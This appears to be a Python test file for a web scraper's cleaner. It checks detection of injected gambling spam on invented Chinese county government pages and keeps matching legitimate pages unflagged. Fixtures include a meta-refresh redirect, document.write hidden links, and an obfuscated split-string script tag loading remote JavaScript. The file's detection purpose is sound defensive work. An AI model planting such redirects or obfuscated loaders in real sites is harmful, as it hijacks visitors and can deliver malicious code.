"""Classic injections whose detectors' gates were fitted to the pages they were built on (v22):
a refresh away whose only link to its target is its own <noscript> fallback; a pitch that gives a
bare address instead of a second promo phrase; a brand in a footer's 技术支持 credit; a script's
written link named "brand：what it sells"; a script tag written by an act spelt in split literals.
Invented pages; each test also keeps a legit page of the same shape unflagged."""
from __future__ import annotations

from scraper.clean import clean_page
from tests.clean.conftest import kinds

URL = "http://www.example.gov.cn/xw/2024/1.html"
_HEADLINE = "柳岸县水利局开展汛前水利工程安全检查"
_ARTICLE = ("<p>4月9日，柳岸县水利局组织技术人员对全县中小型水库、堤防和泵站开展汛前安全检查，逐一查看闸门启闭、"
            "监测设施和防汛物资储备情况。</p>"
            "<p>检查组要求各管理单位落实巡查值守制度，对发现的问题建立台账、限期整改，确保工程安全度汛。</p>"
            "<p>下一步，县水利局将加强与气象部门会商，及时发布预警信息，依法查处侵占河道等违法行为。</p>")


def _page(head: str = "", body_top: str = "", article: str = _ARTICLE, foot: str = "", script: str = "") -> bytes:
    return (f"<html><head><meta charset='utf-8'><title>{_HEADLINE}_柳岸县水利局</title>{head}</head><body>"
            f"{body_top}<div class='nav'><a href='/'>首页</a> <a href='/xw/'>工作动态</a></div>"
            f"<div class='article'><h1>{_HEADLINE}</h1><div class='info'>发布时间：2024-04-09 来源：柳岸县水利局</div>"
            f"{article}</div><div class='foot'><p>主办：柳岸县水利局</p>{foot}</div>{script}</body></html>").encode()


# -- a refresh away whose only link to its target is its own <noscript> fallback ---------------

_REFRESH = "<meta http-equiv='refresh' content='0;url=https://qzkpt417.com/?from=gov'>"


def test_a_refresh_away_with_only_its_noscript_link_to_the_target_is_flagged():
    a = clean_page(_page(_REFRESH, "<noscript><a href='https://qzkpt417.com/'>云栈阁欢迎您</a></noscript>"), url=URL)
    assert a.hijacked and "js_redirect" in kinds(a)
    assert "检查组要求各管理单位" in a.text


def test_a_refresh_to_a_site_the_page_links_in_its_menus_is_left():
    nav = "<div class='links'><a href='https://qzkpt417.com/'>市水利局</a></div>"
    a = clean_page(_page(_REFRESH, nav + "<noscript><a href='https://qzkpt417.com/'>点此进入</a></noscript>"), url=URL)
    assert "js_redirect" not in kinds(a)


# -- a pitch with a bare address in place of a second promo phrase -------------------------------

def test_a_pitch_line_with_a_written_address_is_cut_from_the_article():
    pitch = "【云栈阁棋牌】最新网址：qzkpt417.com 注册即送58元"
    a = clean_page(_page(article=_ARTICLE.replace("</p>", f"</p><p>{pitch}</p>", 1)), url=URL)
    assert a.hijacked and "spam_text" in kinds(a)
    assert "qzkpt417" not in a.text and "云栈阁" not in a.text
    assert "检查组要求各管理单位" in a.text


def test_a_lottery_article_giving_its_site_is_left():
    lottery = ("<p>4月9日，省福利彩票发行中心发布通知，彩票销售网点将开展“彩票公益行”宣传活动，购彩者可登录官方网站"
               "www.example-lottery.cn 查询开奖公告。</p>"
               "<p>中心提醒，彩票开奖结果以官方发布为准，请理性购彩，未成年人不得购买彩票。</p>"
               "<p>彩票公益金将用于社会福利、体育等公益事业，中心将定期向社会公布彩票公益金的使用情况。</p>")
    a = clean_page(_page(article=lottery), url=URL)
    assert not a.hijacked, a.findings
    assert "www.example-lottery.cn" in a.text


# -- a brand in the footer's technical-support credit --------------------------------------------

def test_a_brand_in_the_footers_tech_support_credit_is_flagged():
    for brand in ("云栈阁娱乐", "云栈阁捕鱼彩金"):
        a = clean_page(_page(foot=f"<p class='tech'>技术支持：{brand}</p>"), url=URL)
        assert a.hijacked and "spliced_brand" in kinds(a), brand


def test_a_firms_tech_support_credit_is_left():
    a = clean_page(_page(foot="<p class='tech'>技术支持：柳岸县信息中心</p>"), url=URL)
    assert not a.hijacked, a.findings


# -- a script's written link: a brand's name and what it sells ------------------------------------

def test_a_written_link_naming_a_brand_and_its_games_is_flagged_and_cut():
    js = ("<script>document.write('<div class=\"tj\"><a href=\"https://qzkpt417.com/\">"
          "云栈阁娱乐：真人视讯·体育投注·电子游艺</a></div>');</script>")
    a = clean_page(_page(script=js), url=URL)
    assert a.hijacked and "hidden_links" in kinds(a)
    assert "真人视讯" not in a.text


def test_a_written_link_to_a_partner_site_is_left():
    js = "<script>document.write('<a href=\"https://www.example.org/\">省水利厅：政务公开·办事服务</a>');</script>"
    a = clean_page(_page(script=js), url=URL)
    assert not a.hijacked, a.findings


# -- a script tag written by an act spelt in split literals ----------------------------------------

def test_a_script_written_by_a_split_spelt_act_is_flagged():
    js = """<script>window["doc"+"ument"]["wr"+"ite"]("<scr"+"ipt src='//qzkpt417.com/t.js'></scr"+"ipt>");</script>"""
    a = clean_page(_page(script=js), url=URL)
    assert a.hijacked and "spam_script" in kinds(a)


def test_a_plainly_written_analytics_tag_is_left():
    # (s33: an analytics tag names the account it counts for, as every written vendor tag to an
    # unnamed host on the clean dev pages does; a bare root file from such a host is read since s33
    # as a planted loader: scripts.constant_written_load, test_constant_written_loader)
    js = """<script>document.write("<scr"+"ipt src='https://stats.example.com/s.js?id=4471'></scr"+"ipt>");</script>"""
    a = clean_page(_page(script=js), url=URL)
    assert not a.hijacked, a.findings
